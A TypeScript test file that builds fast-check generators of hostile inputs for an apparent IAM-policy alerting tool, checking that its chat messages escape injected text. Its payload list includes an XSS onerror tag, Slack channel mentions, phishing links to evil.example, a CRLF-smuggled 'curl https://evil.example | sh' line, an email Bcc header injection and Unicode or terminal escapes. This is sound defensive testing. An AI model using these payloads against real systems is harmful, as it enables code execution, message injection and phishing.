import fc from 'fast-check';
import type { Background } from '../../../alerts/messages/background.ts';
import type { Finding } from '../../../schemas/finding.ts';
import { severities } from '../../../schemas/severity.ts';
import type { Verdict } from '../../../schemas/verdict.ts';

/** Names that want to be more than text, by what they try. */
export const hostileNames: readonly (readonly [what: string, name: string])[] = [
  ['HTML markup', '<img src=x onerror=alert(1)>'],
  ['a mention of a channel', '<!channel>'],
  ['a mention of a user', '<@U0FFFFFFF>'],
  ['a mention in plain text', '@here'],
  ['a link of mrkdwn', '<https://evil.example|sign in>'],
  ['a link of Markdown', '[sign in](https://evil.example)'],
  ['an address', 'https://evil.example/login'],
  ['bold and struck text', '*bold* ~gone~ _soft_'],
  ['a code span that ends', '`*free*`'],
  ['a code block that ends', '```\n*free*'],
  ['an emoji', ':white_check_mark:'],
  ['a quotation', '> nobody said this'],
  ['a list', '- one'],
  ['a numbered list', '1. one'],
  ['a heading', '# Heading'],
  ['a line across', '---'],
  ['an escape of its own', '&lt;!channel&gt;'],
  ['a line of its own', 'bob\r\nTake it back    curl https://evil.example | sh'],
  ['a header of its own', 'bob\r\nBcc: everybody@example.com\r\n\r\nHello'],
  ['a line separator', 'bob\u2028Severity: none'],
  ['a turned writing direction', 'bob\u202Enimda'],
  ['nothing that can be seen', '\u200B\u2060'],
  ['half of a surrogate pair', 'bob\uD83D'],
  ['a terminal escape', '\u001b[2Jbob'],
  ['blanks', '   '],
  ['the name of a property', '__proto__'],
];

const names = fc.constantFrom(...hostileNames.map(([, name]) => name));
const text = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  names,
  fc.tuple(names, fc.integer({ min: 1, max: 400 })).map(([name, times]) => name.repeat(times)),
);
const ruleId = fc.stringMatching(/^[a-z][a-z0-9-]{0,40}$/);
const texts = fc.array(text, { maxLength: 40 });

const finding: fc.Arbitrary<Finding> = fc.record(
  {
    rule: ruleId,
    severity: fc.constantFrom(...severities),
    title: text,
    message: text,
    evidence: fc.array(
      fc.record(
        { policy: text, statement: fc.nat(99), sid: text, pointer: text.map((pointer) => `/${pointer}`) },
        { requiredKeys: ['statement', 'pointer'] },
      ),
      { maxLength: 30 },
    ),
    mitigations: fc.array(fc.record({ kind: fc.constant('condition' as const), message: text }), { maxLength: 20 }),
    remediation: fc.record({ summary: text, commands: texts, url: fc.constant('https://docs.aws.amazon.com/IAM/') }),
    controls: texts,
    lapsed: fc.record({ owner: text, reason: text, ticket: text, expires: fc.constant('2026-01-31') }),
    exception: fc.record({ owner: text, reason: text, ticket: text, expires: fc.constant('2027-01-31') }),
  },
  { requiredKeys: ['rule', 'severity', 'title', 'message', 'evidence', 'mitigations', 'remediation', 'controls'] },
);

/** Verdicts of every kind, most of them hostile, many far larger than any channel takes. */
export const anyVerdict: fc.Arbitrary<Verdict> = fc.record({
  id: text,
  outcome: fc.constantFrom('flagged', 'clean', 'attempted', 'undetermined', 'suppressed'),
  severity: fc.constantFrom(...severities, 'none' as const),
  summary: text,
  event: fc.record(
    {
      id: text,
      name: fc.oneof(fc.constantFrom('PutUserPolicy', 'CreatePolicy'), text),
      time: fc.date({ min: new Date('2020-01-01'), max: new Date('2040-01-01'), noInvalidDate: true }).map((date) => date.toISOString()),
      source: text,
      account: fc.stringMatching(/^\d{12}$/),
      region: fc.oneof(fc.constantFrom('us-east-1', 'cn-north-1', 'us-gov-west-1'), text),
      errorCode: text,
      sourceIp: text,
      userAgent: text,
    },
    { requiredKeys: ['id', 'name', 'time', 'source', 'account', 'region'] },
  ),
  actor: fc.record(
    { type: fc.oneof(fc.constantFrom('IAMUser', 'AssumedRole', 'Root', 'FederatedUser'), text), arn: text, name: text, session: text },
    { requiredKeys: ['type'] },
  ),
  subject: fc.record(
    { type: fc.constantFrom('user', 'group', 'role', 'policy', 'account'), name: text, arn: text, account: fc.constant('123456789012') },
    { requiredKeys: ['type', 'account'] },
  ),
  policies: fc.array(
    fc.record(
      { kind: fc.constantFrom('inline', 'managed'), name: text, arn: text, version: text, active: fc.boolean() },
      { requiredKeys: ['kind', 'active'] },
    ),
    { maxLength: 50 },
  ),
  findings: fc.array(finding, { maxLength: 30 }),
  actions: fc.array(
    fc.record(
      {
        kind: fc.constantFrom('tag-user', 'tag-policy', 'note'),
        target: text,
        result: fc.constantFrom('done', 'unchanged', 'skipped', 'failed'),
        detail: text,
      },
      { requiredKeys: ['kind', 'target', 'result'] },
    ),
    { maxLength: 40 },
  ),
});

/** No rationale for any rule, and a hostile statement for each evidence. */
export const hostileBackground: Background = {
  rationales: new Map(),
  statementOf: () => '{\n\t"Sid": "```<!channel>",\n\t"Resource": "https://evil.example"\n}'.repeat(200),
};
